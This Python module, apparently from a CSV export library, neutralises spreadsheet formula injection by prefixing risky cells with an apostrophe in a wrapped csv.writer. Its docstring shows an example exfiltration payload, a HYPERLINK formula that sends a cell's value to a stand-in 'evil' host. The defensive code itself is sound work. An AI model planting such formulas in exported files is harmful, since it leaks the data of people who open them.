"""Cells that a spreadsheet would run as a formula, made inert (CSV injection, OWASP).

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice
(`=HYPERLINK("http://evil/?"&A2, "click")`). Prefixing an apostrophe makes it text. Numbers are left
as they are: `-3` typed as a number is not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


class SafeWriter:
    """csv.writer whose every cell goes through `neutralise`."""

    def __init__(self, fh, **kwargs: Any):
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
